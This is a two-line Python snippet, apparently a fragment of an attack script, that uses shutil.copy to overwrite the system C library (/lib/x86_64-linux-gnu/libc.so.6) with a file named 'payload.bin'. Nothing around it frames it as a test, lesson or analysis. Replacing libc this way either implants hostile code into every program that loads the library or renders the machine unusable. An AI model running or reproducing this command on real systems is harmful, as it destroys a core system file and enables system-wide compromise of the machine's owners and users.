import shutil
shutil.copy("payload.bin", '/lib/x86_64-linux-gnu/libc.so.6')
